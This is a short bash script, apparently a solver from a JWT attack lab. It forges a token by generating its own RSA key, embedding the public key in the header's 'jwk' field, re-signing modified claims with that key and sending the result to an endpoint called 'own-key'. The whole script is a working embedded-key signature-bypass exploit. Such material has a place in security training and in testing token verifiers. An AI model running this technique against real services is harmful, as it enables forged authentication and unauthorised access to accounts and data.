#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at own-key token)")"
key="$(mktemp)"
trap 'rm -f "$key"' EXIT
openssl genrsa -out "$key" 2048 2>/dev/null
modulus="$(openssl rsa -in "$key" -noout -modulus | cut -d= -f2 | unhex | b64)"
header="$(printf '{"alg":"RS256","jwk":{"kty":"RSA","n":"%s","e":"AQAB"}}' "$modulus" | b64)"
input="$header.$(claims "$token")"
signature="$(printf '%s' "$input" | openssl dgst -sha256 -sign "$key" -binary | b64)"
send own-key "$input.$signature"
